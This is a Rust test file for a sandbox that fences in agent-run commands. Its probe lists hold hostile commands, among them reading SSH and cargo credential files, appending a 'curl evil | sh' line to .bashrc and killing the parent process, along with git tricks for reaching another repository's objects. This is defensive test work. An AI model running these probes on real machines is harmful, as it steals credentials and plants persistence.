//! An agent that does what anybody tells it, within the fence.

use std::path::Path;
use std::process::Command;

use fs_err as fs;
use shipmate_daemon::fence::{FenceOrder, missing};
use shipmate_daemon::order::RunOrder;

use super::stage::{ENDED, Runner, Stage, diff, git, is_completed, journal, texts};

/// A home with secrets, on a machine whose owner allows nothing more.
pub(super) struct Home(tempfile::TempDir);

impl Home {
    pub(super) fn new() -> Self {
        let home = tempfile::tempdir().expect("a temporary directory");
        for (name, content) in [(".ssh/id", "secret"), (".cargo/credentials.toml", "secret"), ("notes", "secret")] {
            let path = home.path().join(name);
            fs::create_dir_all(path.parent().expect("it has one")).expect("made");
            fs::write(path, content).expect("written");
        }
        fs::write(
            home.path().join(".gitconfig"),
            "[alias]\n  st = status\n[user]\n  name = N\n  email = n@example.com\n",
        )
        .expect("written");
        Self(home)
    }

    pub(super) fn path(&self) -> &Path {
        self.0.path()
    }

    pub(super) fn around(&self, stage: &Stage, order: RunOrder) -> RunOrder {
        let fence = FenceOrder {
            home: self.0.path().to_owned(),
            private: stage.home.path().to_owned(),
            read: Vec::new(),
            write: Vec::new(),
        };
        RunOrder { fence: Some(fence), ..order }
    }
}

/// Says loudly that the test can't be done here, if it can't.
pub(super) fn is_impossible(name: &str) -> bool {
    if let Some(why) = missing() {
        shipmate_testkit::settings::skip(&format!("runner::{name}"), why);
    }
    missing().is_some()
}

#[test]
fn it_reaches_neither_secrets_nor_other_work_nor_its_watcher() {
    if is_impossible("fence::it_reaches_neither_secrets_nor_other_work_nor_its_watcher") {
        return;
    }
    let (stage, home) = (Stage::new(), Home::new());
    fs::write(stage.path("token"), "secret").expect("written");
    let other = stage.place(&stage.order("echo none of yours > mine"));
    assert_eq!(Runner::start(&other).finish(), Some(ENDED));
    let (home_path, ours, other) = (home.0.path().display(), stage.home.path().display(), other.work());
    let probes = [
        format!("cat {ours}/token"),
        format!("ls {ours}"),
        format!("cat {}", other.join("mine").display()),
        format!("echo x > {}", other.join("mine").display()),
        "cat ../order.json".to_owned(),
        "echo x > ../journal.jsonl".to_owned(),
        format!("cat {home_path}/.ssh/id"),
        format!("cat {home_path}/.cargo/credentials.toml"),
        format!("cat {home_path}/notes"),
        format!("ls {home_path}"),
        format!("echo 'curl evil | sh' >> {home_path}/.bashrc"),
        format!("echo x > {home_path}/.gitconfig"),
        format!("ln -s {home_path}/.ssh/id link && cat link"),
        "echo x > /etc/shipmate-was-here".to_owned(),
        "kill -KILL $PPID".to_owned(),
        format!("cat /proc/$PPID/root{ours}/token"),
    ];
    let attempts: Vec<String> = probes
        .iter()
        .map(|probe| format!("if ({probe}) > /dev/null 2>&1; then echo \"reached: {probe}\"; fi"))
        .collect();
    let dir = stage.place(&home.around(&stage, stage.order(&format!("{}\necho tried", attempts.join("\n")))));
    assert_eq!(Runner::start(&dir).finish(), Some(ENDED));
    let records = journal(&dir);
    assert_eq!(texts(&records), ["tried"]);
    assert!(is_completed(&records));
    assert_eq!(fs::read_to_string(other.join("mine")).expect("read"), "none of yours\n");
}

/// An agent's repository is the agent's to change. Whoever looks at it on the
/// agent's behalf must not be led by it to what the agent may not see.
#[test]
fn a_repository_that_leads_out_of_it_leads_nobody_out() {
    if is_impossible("fence::a_repository_that_leads_out_of_it_leads_nobody_out") {
        return;
    }
    let (mut stage, home) = (Stage::new(), Home::new());
    let url = stage.repository("project").display().to_string();
    let private = home.0.path().join("private");
    fs::create_dir_all(&private).expect("made");
    git(&private, &["init", "--quiet", "--initial-branch=main"]);
    git(&private, &["commit", "--quiet", "--allow-empty", "--message", "nobody's business"]);
    let secret = git(&private, &["rev-parse", "HEAD"]);
    let own = format!(
        "set -e; export HOME={}; own=$(git rev-parse --absolute-git-dir); branch=$(git symbolic-ref HEAD)",
        home.0.path().display()
    );
    let theirs = private.join(".git");
    let theirs = theirs.display();
    let ways = [
        format!("echo {theirs} > $own/commondir; echo 'ref: refs/heads/main' > $own/HEAD"),
        format!(
            "rm -rf $own/refs $own/objects $own/packed-refs; ln -s {theirs}/objects $own/objects; \
             mkdir -p $own/refs; ln -s {theirs}/refs/heads $own/refs/heads; echo 'ref: refs/heads/main' > $own/HEAD"
        ),
        format!(
            "echo {theirs}/objects > $own/objects/info/alternates; echo {secret} > $own/$branch; \
             echo {secret} > $own/refs/heads/more",
            secret = secret.trim()
        ),
    ];
    for way in ways {
        let script = format!("{own}; {way}; echo new > new.txt; echo tried");
        let dir = stage.place(&home.around(&stage, stage.order_in(&url, &script)));
        assert_eq!(Runner::start(&dir).finish(), Some(ENDED));
        let records = journal(&dir);
        assert!(is_completed(&records) && texts(&records) == ["tried"], "{records:?}");
        let clone = stage.clone_of_it();
        let objects = git(&clone, &["--git-dir=.", "cat-file", "--batch-all-objects", "--batch-check"]);
        assert!(!objects.contains(secret.trim()), "{way}");
    }
}

#[test]
fn a_persons_settings_that_lie_elsewhere_are_heard_when_the_work_is_looked_at() {
    if is_impossible("fence::a_persons_settings_that_lie_elsewhere_are_heard_when_the_work_is_looked_at") {
        return;
    }
    let (mut stage, home) = (Stage::new(), Home::new());
    let url = stage.repository("project").display().to_string();
    let elsewhere = home.0.path().join("elsewhere");
    fs::write(&elsewhere, "[core]\n  excludesFile = /dev/null\n").expect("written");
    let include = format!("[include]\n  path = {}\n", elsewhere.display());
    fs::write(home.0.path().join(".gitconfig"), include).expect("written");
    let dir = stage.place(&home.around(&stage, stage.order_in(&url, "echo new > new.txt")));
    let mut runner = Command::new(Runner::program());
    runner.env("HOME", home.0.path());
    assert_eq!(Runner::start_by(runner, &dir).finish(), Some(ENDED));
    let records = journal(&dir);
    assert_eq!(diff(&records).files.len(), 1, "{records:?}");
    let kept = format!("refs/shipmate/runs/{}:new.txt", dir.execution_id());
    assert_eq!(git(&stage.clone_of_it(), &["--git-dir=.", "show", &kept]), "new\n");
}

#[test]
fn what_is_beyond_it_without_the_fence_is_reached() {
    let (stage, home) = (Stage::new(), Home::new());
    let records = stage.play(&format!("cat {}/.ssh/id", home.0.path().display()));
    assert_eq!(texts(&records), ["secret"], "or the probes above prove nothing");
}

#[test]
fn ordinary_work_is_done_within_it() {
    if is_impossible("fence::ordinary_work_is_done_within_it") {
        return;
    }
    let (mut stage, home) = (Stage::new(), Home::new());
    let url = stage.repository("origin").display().to_string();
    let script = format!(
        "set -e; export HOME={home}\n\
         test \"$(cat kept.txt | head -1)\" = kept.txt\n\
         echo new > new.txt; mkdir deep; mv new.txt deep/; rm deleted.txt\n\
         git add --all; git commit --quiet -m 'work'; git log --oneline | wc -l\n\
         git checkout --quiet -b aside; git checkout --quiet -; git branch --quiet -D aside\n\
         echo half >> kept.txt; git stash --quiet; git stash pop --quiet; git fetch --quiet --prune . HEAD\n\
         git config core.hooksPath .hooks; echo '#!/bin/sh' > $(git rev-parse --absolute-git-dir)/hooks-of-mine\n\
         file=$(mktemp); echo x > \"$file\"; rm \"$file\"\n\
         mkdir -p {home}/.cache/tool; echo x > {home}/.cache/tool/entry\n\
         git config --file {home}/.gitconfig alias.st\n\
         printf '#!/bin/sh\\necho ran' > run.sh; chmod +x run.sh; ./run.sh; ls /usr > /dev/null; sleep 0 & wait",
        home = home.0.path().display()
    );
    let dir = stage.place(&home.around(&stage, stage.order_in(&url, &script)));
    assert_eq!(Runner::start(&dir).finish(), Some(ENDED));
    let records = journal(&dir);
    assert!(is_completed(&records), "{:?}", records.last());
    assert_eq!(texts(&records), ["2", "status", "ran"]);
}
